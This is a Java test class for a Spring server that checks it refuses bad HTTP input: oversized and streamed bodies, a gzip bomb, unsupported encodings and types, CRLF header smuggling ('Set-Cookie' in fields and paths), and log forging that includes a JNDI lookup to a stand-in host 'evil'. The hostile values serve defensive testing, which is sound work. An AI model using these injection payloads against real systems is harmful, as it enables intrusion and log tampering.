package dev.palate.server.input;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.palate.server.access.KeyType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.core.io.buffer.DefaultDataBufferFactory;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient.ResponseSpec;
import org.springframework.web.reactive.function.BodyInserters;
import reactor.core.publisher.Flux;

/** Bodies and headers as HTTP carries them. */
@ExtendWith(OutputCaptureExtension.class)
class BadTransportTest extends BadInput {

    private static final String METRIC = "{\"key\":\"a\",\"kind\":\"binary\"}";

    @Test
    @DisplayName("B12 bodies beyond the limit, with a length, without one, and without an end")
    void tooLargeBodies() {
        refused(() -> post("/metrics", " ".repeat(256 * 1024) + METRIC), 413, "content_too_large");
        refused(() -> stream(27), 413, "content_too_large");
    }

    private ResponseSpec stream(int parts) {
        var part = " ".repeat(10_000).getBytes(UTF_8);
        return team.post()
                .uri("/metrics")
                .contentType(MediaType.APPLICATION_JSON)
                .body(BodyInserters.fromDataBuffers(
                        Flux.range(0, parts).map(i -> DefaultDataBufferFactory.sharedInstance.wrap(part))))
                .exchange();
    }

    @Test
    @DisplayName("B13 compressed bodies, a bomb among them")
    void compressedBodies() {
        refused(() -> encoded("gzip", gzip(METRIC.getBytes(UTF_8))), 415, "unsupported_media_type");
        refused(() -> encoded("gzip", gzip(new byte[10_000_000])), 415, "unsupported_media_type");
        refused(() -> encoded("gzip, gzip", gzip(gzip(METRIC.getBytes(UTF_8)))), 415, "unsupported_media_type");
        refused(() -> post("/metrics", gzip(METRIC.getBytes(UTF_8))), 400, "malformed_json");
    }

    @Test
    @DisplayName("B14 other content encodings")
    void otherEncodings() {
        for (var encoding : new String[] {"br", "zstd", "x, y", "identity, gzip", "nonsense"}) {
            refused(() -> encoded(encoding, METRIC.getBytes(UTF_8)), 415, "unsupported_media_type");
        }
    }

    @Test
    @DisplayName("B15 XML, forms, no type, other charsets")
    void otherTypes() {
        for (var type : new String[] {
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "text/plain",
            "application/json;charset=UTF-16"
        }) {
            refused(() -> typed(type), 415, "unsupported_media_type");
        }
        refused(
                () -> team.post()
                        .uri("/metrics")
                        .body(BodyInserters.fromDataBuffers(
                                Flux.just(DefaultDataBufferFactory.sharedInstance.wrap(METRIC.getBytes(UTF_8)))))
                        .exchange(),
                415,
                "unsupported_media_type");
    }

    private ResponseSpec typed(String type) {
        return team.post()
                .uri("/metrics")
                .header(HttpHeaders.CONTENT_TYPE, type)
                .bodyValue(METRIC.getBytes(UTF_8))
                .exchange();
    }

    private ResponseSpec encoded(String encoding, byte[] body) {
        return team.post()
                .uri("/metrics")
                .header(HttpHeaders.CONTENT_ENCODING, encoding)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(body)
                .exchange();
    }

    private static byte[] gzip(byte[] content) {
        var compressed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(compressed)) {
            gzip.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return compressed.toByteArray();
    }

    @Test
    @DisplayName("B40 line breaks in headers and names")
    void lineBreaks() throws IOException {
        refused(() -> post("/prompts", "{'key':'a\\r\\nb','type':'text'}"), 422, "invalid_request", "/key");
        refused(
                () -> post("/prompts", "{'key':'a','type':'text','tags':['a\\r\\nSet-Cookie: b']}"),
                422,
                "invalid_request",
                "/tags/0");
        refused(() -> post("/api-keys", "{'name':'a\\nb','type':'server'}"), 422, "invalid_request", "/name");
        refused(() -> get("/prompts/a%0D%0ASet-Cookie:%20b"), 400, "malformed_request");
        assertThat(raw("GET /api/v1/prompts HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + key()
                        + "\r\nIf-None-Match: a\rb\r\n\r\n"))
                .startsWith("HTTP/1.1 400");
    }

    @Test
    @DisplayName("B41 log forging, escapes, look-ups, a long user agent")
    void logForging(CapturedOutput output) throws IOException {
        var forged = "a\\n2026-01-01T00:00:00.000Z ERROR all is lost\\u001b[31m${jndi:ldap://evil}%x";
        refused(() -> post("/prompts", "{'key':'%s','type':'text'}".formatted(forged)), 422, "invalid_request", "/key");
        refused(() -> get("/prompts/%24%7Bjndi:ldap:%7D%1B%5B31m"), 400, "invalid_parameter", "prompt");

        assertThat(raw("GET /api/v1/prompts HTTP/1.1\r\nHost: localhost\r\nUser-Agent: " + "a".repeat(20_000)
                        + "\r\n\r\n"))
                .startsWith("HTTP/1.1 431");
        assertThat(output.getAll().lines())
                .noneMatch(line -> line.startsWith("2026-01-01T00:00:00.000Z") || line.contains("\u001b[31m"));
    }

    private String key() {
        return project.secret(KeyType.MANAGEMENT);
    }
}
